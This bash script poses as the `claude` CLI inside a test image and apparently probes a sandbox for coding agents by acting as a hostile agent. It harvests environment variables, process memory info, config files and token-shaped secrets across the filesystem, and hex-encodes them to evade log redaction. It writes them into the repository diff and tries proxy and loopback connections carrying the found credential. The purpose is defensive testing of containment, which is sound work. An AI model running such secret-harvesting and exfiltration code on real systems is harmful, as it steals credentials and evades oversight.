#!/bin/bash
# PROBE `claude` for the claude-runner-agent:probe image. NOT Claude Code: a hostile agent.
# Called like the real CLI (claude -p [flags...], prompt on stdin), in the cloned repository.
# It does what a prompt or a repository could make an agent do, and reports all of it:
#
#  1. Hunts secrets the way an attacker would, without knowing them:
#     - its own environment, and /proc/*/environ and /proc/*/cmdline of every process;
#     - every small readable file where inputs land (home, /tmp, /run, /etc, /var, /opt,
#       /srv, /mnt, /root), dumped whole (the cloned repository's .git excepted);
#     - every readable file anywhere (not /proc, /sys, /dev), searched for token-shaped text
#       (sk-ant-..., claude-runner-placeholder-...).
#     Findings are printed hex-encoded (so no log redaction can catch them), one line per
#     chunk: `PROBE <kind> <label> <seq> <hex>`; <label> has no spaces; chunks of one
#     <kind> <label> join in <seq> order. The same lines go to PROBE_FINDINGS.txt in the
#     repository, i.e. into the task's diff (the other way out an attacker has).
#  2. Tries the network, as the prompt says (keywords, each may repeat):
#       PROBE_DIRECT:<port>        TCP to 127.0.0.1:<port> inside the container (no proxy)
#       PROBE_CONNECT:<host>:<port>  HTTP CONNECT through the proxy ($HTTPS_PROXY); when the
#                                  tunnel opens, `GET /` through it
#       PROBE_HTTP:<url>           plain-HTTP request through the proxy (absolute form),
#                                  carrying the placeholder credential it found
#       PROBE_GIT:<url>            git clone through the proxy (NO_PROXY emptied, so even a
#                                  loopback URL goes through it)
#     One line each: `PROBE-NET <what> <target> <verdict> <detail...>` (verdict: ok | refused
#     | failed).
#  3. Prints a stream-json result line (is_error false) and exits 0.
set -u

MAX_DUMP_BYTES=65536      # whole-file dumps: files up to this size
MAX_SCAN_BYTES=16777216   # token search: files up to this size
CHUNK_HEX=2000            # hex characters per output line (the task log drops runaway lines)
FINDINGS="$PWD/PROBE_FINDINGS.txt"
PATTERN='sk-ant-[A-Za-z0-9_-]{6,}|claude-runner-placeholder-[A-Za-z0-9_-]+|github_pat_[A-Za-z0-9_]{6,}|gh[pousr]_[A-Za-z0-9]{6,}'

while [ $# -gt 0 ]; do
    case "$1" in
        --version) echo "0.0.0-probe (Probe, not Claude Code)"; exit 0 ;;
        --output-format | --model | --max-budget-usd | --input-format) shift ;;
    esac
    shift
done
prompt="$(cat)"
args_of() { printf '%s' "$prompt" | grep -o -- "$1:[^[:space:]]*" | cut -d: -f2-; }

: >"$FINDINGS"
emit() { # builtins only: there are thousands of lines
    printf '%s\n' "$*"
    printf '%s\n' "$*" >>"$FINDINGS"
}

# report KIND LABEL < data: the data hex-encoded, in chunks.
report() {
    local kind="$1" label="${2// /_}" seq=0 chunk
    # fold leaves the last chunk without a newline: read it too.
    od -An -v -tx1 | tr -d ' \n' | fold -w "$CHUNK_HEX" | while read -r chunk || [ -n "$chunk" ]; do
        emit "PROBE $kind $label $seq $chunk"
        seq=$((seq + 1))
    done
}

# 1a. environment and processes
env -0 | report env self
for p in /proc/[0-9]*; do
    pid="${p##*/}"
    [ -r "$p/environ" ] && cat "$p/environ" 2>/dev/null | report environ "$pid"
    [ -r "$p/cmdline" ] && cat "$p/cmdline" 2>/dev/null | report cmdline "$pid"
done

# 1b. whole small files where inputs land
find /home /tmp /run /etc /var /opt /srv /mnt /root \
    \( -path "$PWD/.git" -o -path /var/lib/dpkg -o -path /var/cache -o -path /etc/ssl \
    -o -path /usr/share \) -prune -o \
    -type f -readable -size -$((MAX_DUMP_BYTES + 1))c -print0 2>/dev/null |
    while IFS= read -r -d '' f; do
        [ "$f" = "$FINDINGS" ] && continue
        # At most the size find saw: a file still growing (the entrypoint's copy of this very
        # output, under /home) would otherwise be read for as long as it is written.
        head -c "$MAX_DUMP_BYTES" -- "$f" 2>/dev/null | report file "$f"
    done

# 1c. token-shaped text in every readable file (one grep over the whole tree)
find / \( -path /proc -o -path /sys -o -path /dev \) -prune -o \
    -type f -readable -size -$((MAX_SCAN_BYTES + 1))c ! -path "$FINDINGS" -print0 2>/dev/null |
    xargs -0 -r grep -a -o -H -E "$PATTERN" -- 2>/dev/null | sort -u |
    while IFS= read -r hit; do
        f="${hit%%:claude-runner-placeholder-*}"
        f="${f%%:sk-ant-*}"
        printf '%s' "${hit#"$f":}" | report match "$f"
    done

# 1d. what the process may do: identity, capabilities, writable places
sys() { emit "PROBE-SYS $*"; }
sys uid "$(id -u)"
sys capeff "$(awk '/^CapEff:/ { print $2 }' /proc/self/status)"
sys nonewprivs "$(awk '/^NoNewPrivs:/ { print $2 }' /proc/self/status)"
for d in / /etc /usr /usr/local/bin /run /run/claude-runner-gateway /tmp "$HOME" "$PWD"; do
    if (: >"$d/.probe-write") 2>/dev/null; then
        rm -f "$d/.probe-write"
        sys writable "$d" yes
    else
        sys writable "$d" no
    fi
done

# 2. the network
proxy="${HTTPS_PROXY:-${https_proxy:-}}"
proxy_hostport="${proxy#http://}"
proxy_hostport="${proxy_hostport%%/*}"
proxy_host="${proxy_hostport%:*}"
proxy_port="${proxy_hostport##*:}"
net() { emit "PROBE-NET $*"; }
oneline() { tr -d '\r' | tr '\n' ' ' | cut -c1-300; }

placeholder=""
if [ -r "$HOME/.claude/.credentials.json" ]; then
    placeholder="$(jq -r '.claudeAiOauth.accessToken // ""' "$HOME/.claude/.credentials.json")"
fi
placeholder="${placeholder:-${ANTHROPIC_API_KEY:-${CLAUDE_CODE_OAUTH_TOKEN:-}}}"

for port in $(args_of PROBE_DIRECT); do
    if timeout 5 bash -c "exec 3<>/dev/tcp/127.0.0.1/$port" 2>/dev/null; then
        net direct "127.0.0.1:$port" ok connected
    else
        net direct "127.0.0.1:$port" refused no connection
    fi
done

for target in $(args_of PROBE_CONNECT); do
    if [ -z "$proxy" ]; then
        net connect "$target" failed no proxy configured
        continue
    fi
    # One shell per try, so a stuck peer only costs its timeout.
    answer="$(timeout 15 bash -c '
        exec 3<>"/dev/tcp/$1/$2" || exit 1
        printf "CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" "$3" "$3" >&3
        IFS= read -r status <&3 || exit 1
        printf "%s\n" "$status"
        while IFS= read -r line <&3; do [ "${line%$'"'"'\r'"'"'}" = "" ] && break; done
        case "$status" in
            "HTTP/1."[01]" 200"*)
                printf "GET / HTTP/1.0\r\nHost: %s\r\n\r\n" "$3" >&3
                cat <&3 ;;
        esac' probe "$proxy_host" "$proxy_port" "$target" 2>&1)"
    status="$(printf '%s\n' "$answer" | head -n1 | tr -d '\r')"
    case "$status" in
        "HTTP/1."[01]" 200"*)
            net connect "$target" ok "$status" "|" "$(printf '%s\n' "$answer" | tail -n +2 | oneline)" ;;
        "HTTP/"*) net connect "$target" refused "$status" ;;
        *) net connect "$target" failed "$(printf '%s' "$answer" | oneline)" ;;
    esac
done

for url in $(args_of PROBE_HTTP); do
    hostport="${url#*://}"
    hostport="${hostport%%/*}"
    answer="$(timeout 15 bash -c '
        exec 3<>"/dev/tcp/$1/$2" || exit 1
        printf "GET %s HTTP/1.0\r\nHost: %s\r\nAuthorization: Bearer %s\r\nx-api-key: %s\r\n\r\n" \
            "$3" "$4" "$5" "$5" >&3
        cat <&3' probe "$proxy_host" "$proxy_port" "$url" "$hostport" "$placeholder" 2>&1)"
    status="$(printf '%s\n' "$answer" | head -n1 | tr -d '\r')"
    case "$status" in
        "HTTP/1."[01]" 200"*) net http "$url" ok "$status" "|" "$(printf '%s\n' "$answer" | oneline)" ;;
        "HTTP/"*) net http "$url" refused "$status" ;;
        *) net http "$url" failed "$(printf '%s' "$answer" | oneline)" ;;
    esac
done

n=0
for url in $(args_of PROBE_GIT); do
    n=$((n + 1))
    dest="/tmp/probe-clone-$n"
    if out="$(NO_PROXY= no_proxy= timeout 60 git clone --quiet -- "$url" "$dest" 2>&1)"; then
        net git "$url" ok "$(git -C "$dest" log --format=%s -1 2>&1 | oneline)"
    else
        net git "$url" failed "$(printf '%s' "$out" | oneline)"
    fi
done

# 3. a result, as the CLI would print it
jq -cn '{type: "system", subtype: "init", model: "probe", apiKeySource: "none",
         claude_code_version: "0.0.0-probe"}'
jq -cn --arg r "probe done: $(grep -c '^PROBE ' "$FINDINGS") finding lines" \
    '{type: "result", subtype: "success", is_error: false, result: $r, num_turns: 1,
      total_cost_usd: 0, session_id: "probe"}'
